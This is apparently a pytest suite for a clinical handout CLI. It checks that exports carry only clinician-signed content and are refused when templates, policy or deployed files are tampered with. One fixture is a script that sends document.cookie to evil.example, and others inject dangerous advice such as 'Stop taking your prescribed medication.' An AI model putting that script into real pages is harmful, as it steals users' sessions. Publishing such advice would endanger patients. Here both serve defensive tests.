"""What is printed is what was signed: every word behind a published page traces to a
clinician's or a clinical lead's signature.

Each test runs the real CLI on a signed project (see ``trust_helpers``) and looks
at what reaches the export.
"""

from __future__ import annotations

from pathlib import Path

from click.testing import Result

from trust.trust_helpers import TrustedKb


def _check_safety_closure(kb: TrustedKb) -> None:
    """Switch on the rule the sign-off tests' project switches off."""
    config = kb.root / "carekb.yaml"
    config.write_text(config.read_text().replace("    safety-closure: off\n", ""))


def _export(kb: TrustedKb, out: Path, *args: str) -> Result:
    return kb.cli("export", "--out", out, "--allow-empty", *args)


def _ids(out: Path) -> set[str]:
    """The entries whose content is published (a withdrawal notice is not content)."""
    return {
        p.stem
        for p in (out / "markdown").rglob("*.md")
        if p.stem != "index" and not _is_withdrawal_notice(p)
    }


def _is_withdrawal_notice(path: Path) -> bool:
    return "\nwithdrawn: " in path.read_text(encoding="utf-8").split("\n---\n", 1)[0]


# --- Case 2: a technique is never published without its precaution -------------------


def test_retiring_a_precaution_keeps_its_technique_and_handout_out(kb: TrustedKb, tmp_path):
    _check_safety_closure(kb)
    for entry_id in ("move-gently", "cat-cow", "upper-back"):
        kb.request_and_approve(entry_id, "rev-a" if entry_id != "move-gently" else "rev-b")
    before = _export(kb, tmp_path / "before", "--format", "markdown")
    assert before.exit_code == 0, before.output
    assert {"cat-cow", "move-gently", "upper-back"} <= _ids(tmp_path / "before")

    kb.ok("review", "retire", "move-gently", "--as", "rev-b", "--reason", "Rewritten.")
    result = _export(kb, tmp_path / "after", "--format", "markdown", "--format", "html")
    assert result.exit_code == 0, result.output
    assert _ids(tmp_path / "after") == set()  # no technique without its "Stay safe" section
    # The retired precaution's address says it was withdrawn, and says nothing else.
    assert _is_withdrawal_notice(tmp_path / "after" / "markdown" / "precautions" / "move-gently.md")
    assert (
        "'cat-cow' not exported: its precaution 'move-gently' is not exported (retired), "
        "and it is never published without it"
    ) in result.output
    assert "'upper-back' not exported: it includes 'cat-cow'" in result.output
    assert not (tmp_path / "after" / "html" / "techniques" / "cat-cow.html").exists()
    assert sorted(kb.messages("safety-closure")) == [
        "'cat-cow' is not exported while its precaution 'move-gently' is not (it is retired): "
        "get 'move-gently' approved, or take it out of this list (the changed 'cat-cow' "
        "then goes through review again)",
        "'upper-back' is not exported while 'move-gently', which it prints, is not (it is "
        "retired): get 'move-gently' approved, or take it out of the handout (which then goes "
        "through review again)",
    ]


def test_a_precaution_back_in_review_is_named_with_its_status(kb: TrustedKb):
    _check_safety_closure(kb)
    kb.request_and_approve("move-gently", "rev-b")
    kb.request_and_approve("cat-cow", "rev-a")
    assert kb.messages("safety-closure") == []
    kb.ok("review", "request", "move-gently", "--as", "author-b")
    (message,) = kb.messages("safety-closure")
    assert "precaution 'move-gently' is not (it is in review)" in message


# --- Case 1: a handout's version covers everything it prints ---------------------------


RESTRICTED = "Accurate for adults without recent surgery"


def _signed_handout(kb: TrustedKb) -> None:
    at = "2026-03-01T09:00:00Z"
    kb.ok("review", "request", "move-gently", "--as", "author-b", now=at)
    kb.ok("review", "approve", "move-gently", "--as", "rev-b", "--meaning", RESTRICTED, now=at)
    for entry_id in ("cat-cow", "upper-back"):
        kb.ok("review", "request", entry_id, "--as", "author-a", now=at)
        kb.ok("review", "approve", entry_id, "--as", "rev-a", now=at)


def _printed(kb: TrustedKb, out: Path, now: str) -> tuple[str, str, dict[str, str]]:
    """(handout HTML, PDF text, PDF metadata) of the exported handout."""
    from pypdf import PdfReader

    result = kb.cli("export", "--out", out, "--format", "handout", "--format", "pdf", now=now)
    assert result.exit_code == 0, result.output
    reader = PdfReader(out / "pdf" / "upper-back.pdf")
    text = "\n".join(page.extract_text() for page in reader.pages)
    metadata = {str(k): str(v) for k, v in (reader.metadata or {}).items()}
    return (out / "handout" / "upper-back.html").read_text(encoding="utf-8"), text, metadata


def _version(html: str) -> str:
    import re

    found = re.search(r"Version ([0-9a-f]{12}) \(sha256:", html)
    assert found, "no printed version"
    return found.group(1)


def test_a_changed_entry_inside_a_handout_changes_its_printed_version(kb: TrustedKb, tmp_path):
    _signed_handout(kb)
    html, text, metadata = _printed(kb, tmp_path / "v1", "2026-03-02T09:00:00Z")
    first = _version(html)
    assert f"Version {first}" in text.replace("\n", " ")  # on the printed page itself
    assert first in metadata["/Keywords"]
    assert metadata["/CreationDate"] == "D:20260301090000Z"
    # Every reviewer of everything printed, with the meaning they signed...
    # (each signature once, with the titles it covers)
    assert (
        f"Reviewed by Raj Reviewer, DC on 2026-03-01, only as “{RESTRICTED}”: Move gently" in html
    )
    assert "Reviewed by Rita Reviewer, PT on 2026-03-01: Upper back self-care, Cat-cow" in html
    # ...and a narrower meaning printed where the patient reads that text.
    assert f"Checked by Raj Reviewer, DC only as:</strong> “{RESTRICTED}”" in html
    assert RESTRICTED in text.replace("\n", " ")

    # The technique inside changes (hold 3 s becomes 5 s) and is approved again later.
    kb.edit("cat-cow", "hold_seconds: 3", "hold_seconds: 5")
    kb.ok("review", "approve", "cat-cow", "--as", "rev-a", now="2026-04-01T09:00:00Z")
    html2, text2, metadata2 = _printed(kb, tmp_path / "v2", "2026-04-02T09:00:00Z")
    second = _version(html2)
    assert second != first  # the handout's own file did not change; what it prints did
    assert f"Version {second}" in text2.replace("\n", " ")
    assert second in metadata2["/Keywords"]
    assert metadata2["/CreationDate"] == "D:20260401090000Z"  # the newest approval inside
    assert "Reviewed by Rita Reviewer, PT on 2026-04-01: Cat-cow stretch" in html2


# --- Cases 3 and 4: templates and policy are signed by the leads ------------------------


def _trusted_export(kb: TrustedKb, out: Path) -> Result:
    return kb.cli("export", "--out", out, "--require-trust", "--first-export", "--allow-empty")


def _override_template(kb: TrustedKb, name: str, old: str, new: str) -> None:
    from carekb.project import PACKAGED_TEMPLATES

    text = (PACKAGED_TEMPLATES / name).read_text(encoding="utf-8")
    assert old in text, f"{old!r} not in {name}"
    target = kb.root / "templates" / name
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(text.replace(old, new, 1), encoding="utf-8")


SCRIPT = '<script>fetch("https://evil.example/?c="+document.cookie)</script>'


def test_a_template_nobody_signed_is_refused_by_name_until_a_lead_signs(kb: TrustedKb, tmp_path):
    kb.request_and_approve("move-gently", "rev-b")
    kb.request_and_approve("cat-cow", "rev-a")
    _override_template(kb, "html/base.html", "<head>", "<head>\n" + SCRIPT)
    _override_template(
        kb,
        "html/entry.html",
        "{% block content %}",
        "{% block content %}<p>Stop taking your prescribed medication.</p>",
    )
    messages = kb.messages("governance")
    assert any(
        m.startswith("templates/html/base.html was changed after the clinical leads signed")
        for m in messages
    ), messages
    assert any(m.startswith("templates/html/entry.html was changed") for m in messages), messages

    out = tmp_path / "site"
    refused = _trusted_export(kb, out)
    assert refused.exit_code == 1, refused.output
    assert "refused: the settings and templates are not the ones the clinical leads signed" in (
        refused.output
    )
    assert "templates/html/base.html was changed" in refused.output
    assert not out.exists()
    verify = kb.ok("roster", "verify").output
    assert "settings and templates: NOT as the leads signed them" in verify
    assert "templates/html/entry.html was changed" in verify

    # A lead reads the change and signs it: then it is theirs, and it is published.
    kb.sign_roster("lead-l")
    assert kb.messages("governance") == []
    published = _trusted_export(kb, out)
    assert published.exit_code == 0, published.output
    assert (
        "Stop taking your prescribed medication."
        in (out / "html" / "techniques" / "cat-cow.html").read_text()
    )


def test_policy_and_organisation_changes_are_refused_but_output_paths_are_not(
    kb: TrustedKb, tmp_path
):
    kb.request_and_approve("move-gently", "rev-b")
    kb.request_and_approve("cat-cow", "rev-a")
    config = kb.root / "carekb.yaml"
    signed = config.read_text(encoding="utf-8")
    config.write_text(signed.replace("review_interval_days: 365", "review_interval_days: 1825"))
    refused = _trusted_export(kb, tmp_path / "a")
    assert refused.exit_code == 1
    assert "carekb.yaml was changed after the clinical leads signed" in refused.output

    config.write_text(signed.replace('name: "My clinic"', 'name: "Another clinic"'))
    assert _trusted_export(kb, tmp_path / "b").exit_code == 1

    # Where files go is operational, not governance.
    config.write_text(signed.replace("  out: exports", "  out: public"))
    assert kb.messages("governance") == []
    assert _trusted_export(kb, tmp_path / "c").exit_code == 0


def test_a_signed_template_change_changes_the_printed_version(kb: TrustedKb, tmp_path):
    _signed_handout(kb)
    first = _version(_printed(kb, tmp_path / "v1", "2026-03-02T09:00:00Z")[0])
    _override_template(
        kb, "handout/handout.html", "<h2>About this handout</h2>", "<h2>About this leaflet</h2>"
    )
    kb.sign_roster("lead-l", now="2026-03-02T10:00:00Z")
    second = _version(_printed(kb, tmp_path / "v2", "2026-03-03T09:00:00Z")[0])
    assert second != first  # same entries, other words around them: another printed version


# --- A manifest for the deploy step ---------------------------------------------------


def test_every_export_has_a_manifest_and_a_deployed_folder_is_verified(kb: TrustedKb, tmp_path):
    import json

    kb.request_and_approve("move-gently", "rev-b")
    kb.request_and_approve("cat-cow", "rev-a")
    site = tmp_path / "site"
    assert _trusted_export(kb, site).exit_code == 0
    manifest = json.loads((site / "carekb-manifest.json").read_text(encoding="utf-8"))
    assert manifest["formats"] == ["handout", "html", "markdown", "pdf"]
    assert manifest["files"]["html/techniques/cat-cow.html"].startswith("sha256:")
    approvals = manifest["entries"]["cat-cow"]["approvals"]
    assert [a["by"] for a in approvals] == ["rev-a"]
    assert approvals[0]["signature"].startswith("ed25519:")
    assert manifest["governance"].startswith("sha256:") and manifest["roster_version"] == 1

    verified = kb.cli("export", "verify", site)
    assert verified.exit_code == 0, verified.output
    assert "verified:" in verified.output

    page = site / "html" / "techniques" / "cat-cow.html"
    original = page.read_bytes()
    page.write_bytes(original.replace(b"</main>", b"<p>Crack it hard.</p></main>"))
    (site / "html" / "extra.html").write_text("<p>added by hand</p>")
    refused = kb.cli("export", "verify", site)
    assert refused.exit_code == 1
    assert f"{site.as_posix()}/html/techniques/cat-cow.html: changed" in refused.output
    assert f"{site.as_posix()}/html/extra.html: not in the signed export" in refused.output
    assert "do not deploy this folder" in refused.output

    page.write_bytes(original)
    (site / "html" / "extra.html").unlink()
    assert kb.cli("export", "verify", site).exit_code == 0
    # The repository moved on without a lead: the folder no longer verifies.
    _override_template(kb, "html/base.html", "<head>", "<head>\n" + SCRIPT)
    unsigned = kb.cli("export", "verify", site)
    assert unsigned.exit_code == 1 and "templates/html/base.html was changed" in unsigned.output
    (site / "carekb-manifest.json").unlink()
    bare = kb.cli("export", "verify", site)
    assert bare.exit_code == 1 and "holds no readable carekb-manifest.json" in bare.output
